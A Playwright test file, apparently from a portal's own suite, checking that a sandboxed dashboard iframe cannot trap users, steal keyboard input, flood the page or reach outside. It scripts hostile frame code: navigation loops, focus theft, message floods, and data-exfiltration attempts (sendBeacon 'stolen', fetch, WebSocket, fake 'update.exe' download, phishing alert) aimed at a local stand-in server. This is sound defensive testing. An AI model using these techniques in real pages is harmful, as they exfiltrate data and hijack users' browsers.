import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Frame } from '@playwright/test';
import { expect, type Page, test } from './harness/private.ts';
import { admin } from './harness/publishing.ts';
import { HOSTILE, publishHostile } from './sandbox/hostile.ts';

const inside = (page: Page) => page.frames().find((frame) => frame.url().includes('/sandbox/')) as Frame;

/** Opens the dashboard in a new frame. */
async function open(page: Page) {
  await page.goto(HOSTILE.path);
  await expect(page.frameLocator('iframe').getByText('Hostile content')).toBeVisible();
  await expect.poll(() => inside(page).evaluate(() => 'port' in globalThis)).toBe(true);
}

/** Runs code in the frame without `evaluate` of Playwright, because that counts as an act of the person. */
async function run(page: Page, attack: (path: string) => void) {
  const client = await page.context().newCDPSession(inside(page));
  await client.send('Runtime.evaluate', { expression: `(${attack})('${HOSTILE.path}')` });
}

async function goesToArchive(page: Page) {
  await page.getByRole('link', { name: 'Archive' }).click();
  await expect(page.getByRole('heading', { level: 1, name: 'Archive' })).toBeVisible();
  await expect(page.locator('iframe')).toHaveCount(0);
}

test.describe('a sandboxed dashboard that wants to keep the person', () => {
  test.beforeEach(async ({ gateway }) => {
    test.slow();
    await publishHostile(gateway);
    expect(await admin(gateway, 'dashboard-sandbox', 'on', HOSTILE.name)).toMatchObject({ ok: true });
  });

  test('does not lead them back, and takes no words that are typed elsewhere', async ({ enter }) => {
    const page = await enter('provider');
    await open(page);
    await test.step('by addresses of its own', async () => {
      await run(page, (path) => {
        const port: MessagePort = Reflect.get(globalThis, 'port');
        let at = 0;
        setInterval(() => {
          at += 1;
          port.postMessage({ type: 'at', path: `${path}/${at % 2}`, replace: true });
        }, 15);
      });
      await expect(page).toHaveURL(/hostile-dashboard\/[01]$/);
      await goesToArchive(page);
    });
    await open(page);
    await test.step('by an act of theirs in the portal', async () => {
      await run(page, (path) => {
        const port: MessagePort = Reflect.get(globalThis, 'port');
        setInterval(() => {
          port.postMessage({ type: 'leave', path, tab: false });
          port.postMessage({ type: 'leave', path: '/home', tab: false });
        }, 15);
      });
      await goesToArchive(page);
    });
    await open(page);
    await test.step('by taking the focus from a field of the portal', async () => {
      await inside(page).evaluate(() => {
        const field = document.body.appendChild(document.createElement('input'));
        field.setAttribute('aria-label', 'Listening');
        setInterval(() => {
          window.focus();
          field.focus();
        }, 10);
      });
      await expect(page.frameLocator('iframe').getByLabel('Listening')).toBeFocused();
      await page.getByRole('button', { name: 'Search' }).click();
      const panel = page.getByRole('alert', { name: `${HOSTILE.title} is not available` });
      await expect(panel).toContainText('It took the keyboard from a field of the portal.');
      await page.keyboard.type('secret words');
      await expect(page.getByRole('combobox', { name: 'Search' })).toHaveValue('secret words');
    });
  });

  test('is removed when it sends the page more than it can read', async ({ enter }) => {
    const page = await enter('provider');
    const panel = page.getByRole('alert', { name: `${HOSTILE.title} is not available` });
    await open(page);
    await test.step('to its window, where nothing is expected', async () => {
      await run(page, () => {
        setInterval(() => {
          const end = performance.now() + 10;
          while (performance.now() < end) parent.postMessage({ sandbox: 'nothing' }, '*');
        });
      });
      await expect(panel).toContainText('It kept the page busy without end.');
      await goesToArchive(page);
    });
    await open(page);
    await test.step('by few messages that are large', async () => {
      await run(page, () => {
        const port: MessagePort = Reflect.get(globalThis, 'port');
        const variables = Array.from({ length: 300_000 }, (_, at) => ({ at }));
        setInterval(() => port.postMessage({ type: 'operation', call: 1, query: '', variables }), 50);
      });
      await expect(panel).toContainText('It kept the page busy without end.');
      await goesToArchive(page);
    });
  });

  test('reaches no server and nothing of the browser', async ({ enter }) => {
    const heard: string[] = [];
    const server = createServer(({ url = '' }, response) => {
      heard.push(url);
      response.setHeader('access-control-allow-origin', '*');
      response.end();
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const elsewhere = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    const page = await enter('provider');
    const opened: string[] = [];
    page.context().on('page', (other) => opened.push(other.url()));
    page.on('dialog', (dialog) => opened.push(dialog.message()));
    page.on('download', (download) => opened.push(download.url()));
    await open(page);
    const allowed = await inside(page).evaluate(async (address) => {
      const add = <Name extends keyof HTMLElementTagNameMap>(name: Name, fields: object) =>
        document.body.appendChild(Object.assign(document.createElement(name), fields));
      navigator.sendBeacon(`${address}/beacon`, 'stolen');
      add('a', { href: '#', ping: `${address}/ping` }).click();
      add('a', { href: URL.createObjectURL(new Blob(['x'])), download: 'update.exe' }).click();
      add('img', { src: `${address}/image` });
      add('link', { rel: 'stylesheet', href: `${address}/style` });
      add('link', { rel: 'prefetch', href: `${address}/prefetch` });
      add('script', { src: `${address}/script` });
      add('script', {
        type: 'speculationrules',
        textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [`${address}/speculation`] }] }),
      });
      add('object', { data: `${address}/object` });
      add('video', { src: `${address}/video` });
      add('iframe', { src: `${address}/frame` });
      add('div', { style: `background: url(${address}/background)` });
      window.open(`${address}/window`);
      alert('Your session has ended');
      const dooms: (() => unknown)[] = [
        () => fetch(`${address}/fetch`),
        () => new WebSocket(address.replace('http', 'ws')),
        () => new EventSource(`${address}/events`),
        () => navigator.serviceWorker.register('/x.js'),
        () => navigator.storage.getDirectory(),
        () => indexedDB.open('stolen'),
        () => caches.open('stolen'),
        () => new SharedWorker('data:text/javascript,'),
      ];
      for (const doom of dooms)
        await Promise.resolve()
          .then(doom)
          .catch(() => {});
      const policy = Reflect.get(document, 'featurePolicy') as { allowedFeatures(): string[] };
      return policy.allowedFeatures();
    }, elsewhere);
    for (const feature of [
      'camera',
      'clipboard-read',
      'display-capture',
      'fullscreen',
      'geolocation',
      'microphone',
      'usb',
    ])
      expect(allowed).not.toContain(feature);
    await run(page, () => {
      location.href = 'mailto:somebody@elsewhere.example?subject=stolen';
    });
    await open(page);
    await inside(page).evaluate((action) => {
      const form = document.body.appendChild(document.createElement('form'));
      Object.assign(form, { action, method: 'post' });
      form.submit();
    }, `${elsewhere}/form`);
    await goesToArchive(page);
    expect(heard).toEqual([]);
    expect(opened).toEqual([]);
    server.close();
  });
});
